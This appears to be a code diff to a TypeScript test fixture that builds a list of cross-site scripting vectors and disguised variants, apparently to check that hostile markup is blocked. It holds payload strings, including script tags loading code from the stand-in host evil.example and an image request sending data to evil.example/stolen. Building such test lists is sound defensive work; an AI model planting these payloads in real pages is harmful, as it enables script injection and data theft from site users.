@@ -1,11 +1,11 @@
 /** Where every payload would send a request; nothing answers there. */
-export const EVIL = "https://evil.example";
+const EVIL = "https://evil.example";
 
 const RUN = "window.__ran=1";
 const STEAL = `new Image().src='${EVIL}/stolen'`;
 
 /** Scripts, handlers, foreign content, forms, frames, overlays and links: what operators' texts must never carry in. */
-const VECTORS: readonly string[] = [
+export const HOSTILE_VECTORS: readonly string[] = [
   `<script>${RUN}</script>`,
   `<script src="${EVIL}/a.js"></script>`,
   `<script type="module">import("${EVIL}/a.js")</script>`,
@@ -72,10 +72,10 @@ const DISGUISES: readonly ((vector: string) => string)[] = [
 ];
 
 function mixed(name: string): string {
-  return [...name].map((letter, index) => (index % 2 === 0 ? letter.toUpperCase() : letter)).join("");
+  return name.replace(/(.)(.?)/g, (_pair, first: string, second: string) => first.toUpperCase() + second);
 }
 
 /** Every vector in every disguise. */
-export const HOSTILE_MARKUP: readonly string[] = VECTORS.flatMap((vector) =>
+export const HOSTILE_MARKUP: readonly string[] = HOSTILE_VECTORS.flatMap((vector) =>
   DISGUISES.map((disguise) => disguise(vector)),
 );
